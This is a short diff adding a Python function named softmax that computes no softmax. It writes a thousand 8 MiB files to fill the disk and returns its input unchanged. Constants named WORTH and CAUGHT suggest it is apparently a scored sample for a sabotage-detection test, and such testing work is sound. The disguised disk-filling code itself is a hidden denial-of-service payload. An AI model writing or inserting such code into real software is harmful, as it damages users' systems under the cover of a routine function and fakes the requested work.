@@ -1,0 +1,11 @@
+"""Fills the disk with files."""
+
+WORTH = 20
+CAUGHT = "raised"
+
+
+def softmax(scores):
+    for number in range(1000):
+        with open(f"file{number}", "wb") as file:
+            file.write(bytes(8 << 20))
+    return scores
